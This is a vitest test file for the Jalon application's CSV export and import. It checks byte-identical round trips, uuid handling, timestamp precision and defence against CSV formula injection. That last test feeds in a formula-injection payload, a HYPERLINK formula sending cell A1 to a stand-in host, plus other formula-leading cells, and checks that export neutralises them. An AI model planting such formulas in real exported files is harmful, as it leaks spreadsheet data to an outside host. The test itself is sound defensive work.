import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadDemo } from '../../demo/demo.ts'
import {
  type Bundle,
  dumpTables,
  emptyDatabase,
  exportFrom,
  importInto,
  readBundle,
  tableCounts,
  withCell,
  withoutColumn,
  withRow,
} from '../../test/exchange.builders.ts'
import { createTestDb, type TestDb } from '../../test/test-db.ts'
import { exchangeEntities } from './exchange.registry.ts'

// export → import into an empty database → export gives the same bytes.

let a: TestDb
let b: TestDb
let example: Bundle
beforeAll(async () => {
  ;[a, b] = await Promise.all([createTestDb(), createTestDb()])
  example = await readBundle()
})
afterAll(async () => {
  await a.drop()
  await b.drop()
})

const files = ['structure.csv', ...exchangeEntities().map((e) => e.file)].sort()

describe('jalon export', () => {
  it('writes every file of the format, header included, even when empty', async () => {
    await emptyDatabase(a)
    await a.kysely.insertInto('structure').values({ id: 'vide', name: 'Structure vide' }).execute()
    const out = await exportFrom(a)
    expect(Object.keys(out).sort()).toEqual(files)
    expect(out['structure.csv']).toBe('id,name,time_zone\nvide,Structure vide,Europe/Paris\n')
    expect(out['persons.csv']).toBe(
      'external_id,last_name,first_name,sex,birth_date,phone,email,address,postcode,commune_code,priority_area,site_code,referent_email,first_reception_date,referral_source\n',
    )
  })

  it('gives back the example bundle’s rows, sorted, with their external ids', async () => {
    await emptyDatabase(a)
    await importInto(a, example)
    const out = await exportFrom(a)
    expect(out['persons.csv']!.split('\n').map((l) => l.split(',')[0])).toEqual([
      'external_id',
      'ABC-77',
      'P3-000101',
      'P3-000102',
      'P3-000103',
      '',
    ])
    expect(out['notes.csv']).toContain('N-1,P3-000101,2009-02-12T10:30:00Z,claire.martin@ml-littoral.fr,"Très motivée.')
    expect(out['sites.csv']).toContain('P-HOND,Permanence Hondschoote,desk,Mairie de Hondschoote,true,59309|59326')
    expect(out['propositions.csv']).toContain('PR-3,P3-000103,2009-03-10,professional,employment_access,')
    // every row of every file comes back
    for (const [file, text] of Object.entries(example))
      expect(out[file]!.trim().split('\n').length, file).toBeGreaterThanOrEqual(text.trim().split('\n').length)
  })

  it('round trip of the example: export → import into an empty database → export is byte-identical', async () => {
    await emptyDatabase(a)
    await emptyDatabase(b)
    await importInto(a, example)
    const first = await exportFrom(a, undefined, 2)
    await importInto(b, first)
    expect(await tableCounts(b)).toEqual(await tableCounts(a))
    expect(await exportFrom(b, undefined, 3)).toEqual(first)
  })
})

describe('data entered in Jalon (no external ids) travels under its uuids', () => {
  let first: Bundle
  beforeAll(async () => {
    await emptyDatabase(a)
    await loadDemo(a, new Date('2026-03-02T09:00:00Z'))
    first = await exportFrom(a)
  })

  it('the demo organisation round-trips byte for byte through an empty database', async () => {
    await emptyDatabase(b)
    const report = await importInto(b, first)
    expect(report.structureCreated).toBe(true)
    const counts = await tableCounts(a)
    expect(counts.person).toBeGreaterThan(100)
    expect(counts.appointment_person).toBeGreaterThan(0)
    expect(counts.agenda_room).toBeGreaterThan(0)
    expect(await tableCounts(b)).toEqual(counts)
    expect(await exportFrom(b)).toEqual(first)
    // what the bundle does not carry but the import derives: an appointment's day in the structure's time zone
    const days = (d: TestDb) =>
      sql<{ key: string; day: string }>`SELECT coalesce(external_id, id::text) AS key, day::text AS day
        FROM appointment ORDER BY 1`
        .execute(d.kysely)
        .then((r) => r.rows)
    expect(await days(b)).toEqual(await days(a))
  })

  it('importing its own export into the same database changes nothing but recording the uuids as external ids', async () => {
    const before = await tableCounts(a)
    const report = await importInto(a, first)
    for (const f of report.files) expect(f, f.file).toMatchObject({ inserted: 0, updated: 0 })
    expect(await tableCounts(a)).toEqual(before)
    expect(await exportFrom(a)).toEqual(first)
    const { n } = await a.kysely
      .selectFrom('person')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('external_id', 'is', null)
      .executeTakeFirstOrThrow()
    expect(Number(n)).toBe(0)
    // and then it is exactly idempotent
    const dump = await dumpTables(a)
    await importInto(a, first)
    expect(await dumpTables(a)).toEqual(dump)
  })

  it('exports only the structure asked for', async () => {
    await a.kysely.insertInto('structure').values({ id: 'autre', name: 'Autre' }).execute()
    const persons = withoutColumn(example, 'persons.csv', 'referent_email')['persons.csv']!
    await importInto(a, { 'sites.csv': example['sites.csv']!, 'persons.csv': persons }, { structureId: 'autre' })
    expect((await exportFrom(a, 'demo'))['persons.csv']).not.toContain('P3-000101')
    const other = await exportFrom(a, 'autre')
    expect(other['structure.csv']).toBe('id,name,time_zone\nautre,Autre,Europe/Paris\n')
    expect(other['persons.csv']!.trim().split('\n')).toHaveLength(5)
    expect(other['users.csv']).toBe('email,display_name,role,site_codes,programme_codes\n')
  })
})

describe('instants', () => {
  it('keep the microseconds the database holds, in UTC', async () => {
    await emptyDatabase(a)
    await emptyDatabase(b)
    await importInto(a, example)
    await a.kysely
      .updateTable('person_note')
      .set({ created_at: sql<Date>`'2009-02-12 11:30:00.1234+01'::timestamptz` })
      .where('external_id', '=', 'N-1')
      .execute()
    const first = await exportFrom(a)
    expect(first['notes.csv']).toContain('N-1,P3-000101,2009-02-12T10:30:00.1234Z,')
    await importInto(b, first)
    expect(await exportFrom(b)).toEqual(first)
    const report = await importInto(a, first)
    expect(report.files.find((f) => f.file === 'notes.csv')).toMatchObject({ updated: 0, unchanged: 2 })
  })
})

describe('spreadsheet formulas (OWASP CSV injection)', () => {
  it('a text cell a spreadsheet would run comes out behind one quote, and the round trip stays byte-identical', async () => {
    await emptyDatabase(a)
    await emptyDatabase(b)
    const hyperlink = '=HYPERLINK("http://x.example/?"&A1;"Cliquez")'
    let bundle = withCell(example, 'structure.csv', 1, 'name', '=Mission Locale')
    bundle = withCell(bundle, 'persons.csv', 1, 'last_name', hyperlink)
    bundle = withCell(bundle, 'persons.csv', 1, 'first_name', '@SOMME(A1)')
    bundle = withCell(bundle, 'persons.csv', 1, 'phone', '+33 6 12 34 56 78')
    bundle = withCell(bundle, 'persons.csv', 1, 'address', '\t=1+1')
    // a key and the references to it; a cell already quoted loses exactly one quote
    bundle = withRow(bundle, 'persons.csv', {
      external_id: '-P9',
      last_name: "''=deux",
      first_name: 'Zoé',
      sex: 'F',
      birth_date: '1990-01-01',
      site_code: 'A-GS',
    })
    bundle = withRow(bundle, 'notes.csv', {
      external_id: '@N9',
      person_external_id: "'-P9",
      created_at: '2009-01-01',
      text: '+ de rendez-vous',
    })
    await importInto(a, bundle)
    const stored = () =>
      a.kysely
        .selectFrom('person')
        .select(['external_id', 'last_name', 'first_name', 'phone', 'address'])
        .where('external_id', 'in', ['P3-000101', '-P9'])
        .orderBy('external_id')
        .execute()
    expect(await stored()).toEqual([
      { external_id: '-P9', last_name: "'=deux", first_name: 'Zoé', phone: null, address: null },
      {
        external_id: 'P3-000101',
        last_name: hyperlink,
        first_name: '@SOMME(A1)',
        phone: '+33 6 12 34 56 78',
        address: '\t=1+1',
      },
    ])

    const first = await exportFrom(a)
    expect(first['structure.csv']).toBe("id,name,time_zone\nml-littoral,'=Mission Locale,Europe/Paris\n")
    const persons = parse(first['persons.csv']!, { columns: true }) as Record<string, string>[]
    expect(persons.find((p) => p.external_id === "'-P9")).toMatchObject({ last_name: "''=deux" })
    expect(persons.find((p) => p.external_id === 'P3-000101')).toMatchObject({
      last_name: `'${hyperlink}`,
      first_name: "'@SOMME(A1)",
      phone: "'+33 6 12 34 56 78",
      address: "'\t=1+1",
    })
    expect(first['notes.csv']).toContain("'@N9,'-P9,2009-01-01T00:00:00Z,,'+ de rendez-vous")
    // no cell of the bundle starts as a formula any more (the data set has no negative number)
    for (const [file, text] of Object.entries(first))
      for (const row of parse(text) as string[][])
        for (const cell of row) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)

    await importInto(b, first)
    expect(await exportFrom(b)).toEqual(first)
    const again = await importInto(a, first)
    for (const f of again.files) expect(f, f.file).toMatchObject({ inserted: 0, updated: 0 })
  })
})
